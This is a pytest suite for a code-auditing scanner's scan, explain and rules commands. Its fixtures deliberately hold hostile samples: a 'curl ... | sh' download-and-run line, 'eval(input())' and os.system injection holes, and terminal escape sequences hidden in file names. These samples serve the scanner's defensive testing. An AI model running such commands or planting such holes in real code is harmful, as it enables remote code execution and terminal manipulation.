"""`auditor scan`, `explain` and `rules` as a user runs them."""

from __future__ import annotations

import json
from pathlib import Path

import jsonschema
import pytest
from support.audited import write_tree
from support.commands import Done, run_command
from support.sources import ROOT

FAST = ("--no-semgrep", "--no-bandit")
CLEAN = {
    "SKILL.md": "---\nname: clean\ndescription: Says hello.\n---\n# Clean\n\nRun `hello.py`.\n",
    "hello.py": "print('hello')\n",
}
WARNS = {**CLEAN, "hello.py": "import urllib.request\nurllib.request.urlopen('https://example.invalid/')\n"}
FAILS = {**CLEAN, "hello.py": "from os import system as s\ns(input())\n"}


@pytest.fixture
def home(tmp_path: Path) -> Path:
    return tmp_path / "home"


def scan(home: Path, files: dict[str, str], *options: str) -> Done:
    tree = write_tree(home.parent / "clean", files)
    return run_command("auditor", "scan", str(tree), *FAST, *options, home=home)


@pytest.mark.parametrize(
    ("files", "options", "code", "verdict"),
    [
        (CLEAN, (), 0, "PASS"),
        (CLEAN, ("--strict",), 0, "PASS"),
        (WARNS, (), 0, "WARN"),
        (WARNS, ("--strict",), 10, "WARN"),
        (FAILS, (), 20, "FAIL"),
    ],
)
def test_the_exit_code_is_the_verdict(
    home: Path, files: dict[str, str], options: tuple[str, ...], code: int, verdict: str
) -> None:
    done = scan(home, files, *options)
    assert done.code == code
    assert done.out.splitlines()[-1].startswith(verdict)


def test_nothing_to_scan_and_a_wrong_path_have_codes_of_their_own(home: Path, tmp_path: Path) -> None:
    (tmp_path / "empty").mkdir()
    assert run_command("auditor", "scan", str(tmp_path / "empty"), *FAST, "--json", home=home).code == 3
    missing = run_command("auditor", "scan", str(tmp_path / "missing"), "--json", home=home)
    assert (missing.code, missing.json["error_code"]) == (2, "not_a_tree")
    wrong = run_command("auditor", "scan", str(tmp_path), "--format", "xyz", home=home)
    assert wrong.code == 2
    assert wrong.out == ""


def test_json_fits_the_published_schema(home: Path) -> None:
    done = scan(home, FAILS, "--json")
    schema = json.loads((ROOT / "docs/schemas/report-v1.json").read_text(encoding="utf-8"))
    jsonschema.validate(done.json, schema)
    assert (done.code, done.json["ok"], done.json["verdict"]) == (20, True, "FAIL")
    finding = next(item for item in done.json["findings"] if item["rule"] == "python-os-command")
    assert finding["location"] == {"path": "hello.py", "line": 2, "column": 1, "end_line": 2, "end_column": 11}


def test_text_shows_the_line_with_carets_below_the_span(home: Path) -> None:
    lines = scan(home, {"hello.py": "x = 1; eval(input())  # done\n"}).out.splitlines()
    at = next(index for index, line in enumerate(lines) if line.endswith("| x = 1; eval(input())  # done"))
    source, marks = lines[at], lines[at + 1]
    assert "FAIL" in lines[0]
    assert "[python-eval]" in lines[0]
    assert source[marks.index("^") : marks.rindex("^") + 1] == "eval(input())"


def test_worst_comes_first_and_the_capability_profile_follows(home: Path) -> None:
    text = scan(home, {**WARNS, "tool.py": "eval(input())\n"}).out
    assert text.index("[python-eval]") < text.index("[code-network]") < text.index("What the code wants")
    assert "example.invalid (hello.py:2)" in text


def test_what_was_not_read_is_said(home: Path) -> None:
    assert "is not valid Python" in scan(home, {**CLEAN, "broken.py": "if ) else\n"}).out


def test_no_byte_of_the_tool_reaches_a_terminal_raw(home: Path) -> None:
    evil = "\x1b]52;c;Y3VybA==\x07\u202e\r"
    files = {
        **CLEAN,
        f"a{evil}b.py": f"eval(input())  # {evil}\nx = '{evil}'\n",
        "SKILL.md": f"---\nname: a{evil}\n---\n",
    }
    for options in ((), ("--verbose",), ("--json",)):
        done = scan(home, files, *options)
        assert done.code == 20
        assert not {"\x1b", "\x07", "\u202e", "\r"} & set(done.out + done.err)


def test_a_single_file_is_audited_by_itself(home: Path, tmp_path: Path) -> None:
    write_tree(tmp_path, {"one/run.sh": "curl https://example.invalid/x | sh\n", "one/other.py": "eval(input())\n"})
    done = run_command("auditor", "scan", str(tmp_path / "one/run.sh"), *FAST, "--json", home=home)
    assert done.code == 20
    assert {item["location"]["path"] for item in done.json["findings"]} == {"run.sh"}


def test_a_link_is_not_followed_as_a_path(home: Path, tmp_path: Path) -> None:
    write_tree(tmp_path, {"real/a.py": "print(1)\n"})
    for number, target in enumerate(("real/a.py", "real", "nothing")):
        link = tmp_path / f"link{number}"
        link.symlink_to(tmp_path / target)
        done = run_command("auditor", "scan", str(link), *FAST, "--json", home=home)
        assert (done.code, done.json["context"]["reason"]) == (2, "it is a link")


def test_a_finding_in_a_whole_line_has_no_column(home: Path) -> None:
    done = scan(home, {"SKILL.md": "---\nname: [\n---\n"})
    assert "      SKILL.md:2\n" in done.out


def test_a_report_in_a_file_leaves_standard_output_empty(home: Path, tmp_path: Path) -> None:
    done = scan(home, FAILS, "--output", str(tmp_path / "report.txt"), "--quiet")
    assert (done.code, done.out, done.err) == (20, "", "")
    assert "[python-os-command]" in (tmp_path / "report.txt").read_text(encoding="utf-8")


def test_where_no_report_can_be_written_is_told_before_anything_is_audited(home: Path, tmp_path: Path) -> None:
    for place in (tmp_path / "missing" / "report.txt", tmp_path):
        done = scan(home, FAILS, "--output", str(place))
        assert (done.code, done.out) == (1, ""), done
        assert f"path: {place}" in done.err


def test_two_formats_at_once_are_refused(home: Path) -> None:
    done = scan(home, FAILS, "--json", "--format", "sarif")
    assert (done.code, done.json["error_code"], done.json["context"]) == (2, "usage", {"format": "sarif"})
    assert scan(home, FAILS, "--json", "--format", "json").json["verdict"] == "FAIL"


def test_colours_are_for_terminals_only(home: Path) -> None:
    tree = write_tree(home.parent / "clean", FAILS)
    argv = ("auditor", "scan", str(tree), *FAST)
    assert "\x1b[" not in run_command(*argv, home=home).out
    assert "\x1b[31mFAIL" in run_command(*argv, home=home, env={"FORCE_COLOR": "1"}).out
    assert "\x1b[" not in run_command(*argv, home=home, env={"FORCE_COLOR": "1", "NO_COLOR": "1"}).out


def test_explain_prints_the_page_of_a_rule(home: Path) -> None:
    text = run_command("auditor", "explain", "python-eval", home=home).out
    assert [
        text.find(part) >= 0 for part in ("Why", "Bad", "Good", "Fix", "References", "CWE-95", "eval(input())")
    ] == [True] * 7


def test_explain_names_the_nearest_rules(home: Path) -> None:
    done = run_command("auditor", "explain", "python-evl", "--json", home=home)
    assert (done.code, done.json["error_code"]) == (2, "unknown_rule")
    assert "python-eval" in done.json["hint"]


def test_rules_lists_every_rule(home: Path) -> None:
    listed = run_command("auditor", "rules", "--json", home=home).json
    ids = {rule["id"] for rule in listed["rules"]}
    assert {"python-eval", "shell-download-execution", "javascript-eval", "code-network"} <= ids
    assert listed["ruleset"].startswith("sha256:")
